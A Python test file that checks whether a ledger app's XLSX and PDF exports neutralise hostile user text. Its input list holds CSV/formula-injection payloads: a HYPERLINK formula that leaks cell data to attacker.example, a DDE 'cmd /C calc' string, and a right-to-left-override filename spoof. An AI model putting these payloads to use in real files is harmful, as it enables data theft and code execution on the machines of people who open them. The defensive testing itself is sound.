"""Hostile text in the ledger's exports: an escape character no longer breaks the XLSX for good, and
nothing a person typed runs as a formula in a spreadsheet or disappears from a PDF."""

from __future__ import annotations

import io

from openpyxl import load_workbook
from pypdf import PdfReader

from tests.ledger.conftest import Api

ESCAPE = "屏幕碎裂\x1b[31m（红字）\x07"
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"点此查看")'
HOSTILE = [ESCAPE, FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "右到左\u202etxt.exe"]


def test_a_ledger_with_hostile_text_still_exports_and_shows_it_as_typed(api: Api) -> None:
    api.register("DSJ0666")
    for text in HOSTILE:
        r = api.post("devadmin1", "/api/v1/ledger/faults", {"serial": "DSJ0666", "kind": "fault", "description": text})
        assert r.status_code == 201, r.text

    xlsx = api.get("devadmin1", "/api/v1/ledger/export.xlsx")
    assert xlsx.status_code == 200, xlsx.text  # was 500 for every later export once "\x1b" was in the ledger
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert all(c.data_type != "f" for c in cells), "a cell became a formula"
    notes = {c.value for c in cells}
    assert "屏幕碎裂␛[31m（红字）␇" in notes  # the control characters are shown, not dropped
    for text in HOSTILE[1:6]:
        cell = next(c for c in cells if c.value == text.strip())  # the API trims what is typed
        assert cell.data_type == "s" and cell.quotePrefix, f"{text!r} would be evaluated"
    assert "右到左[U+202E]txt.exe" in notes

    pdf = api.get("devadmin1", "/api/v1/ledger/export.pdf")
    assert pdf.status_code == 200
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf.content)).pages)
    assert "\x1b" not in text and "␛[31m" in text
    assert "HYPERLINK" in text and "[U+202E]txt.exe" in text
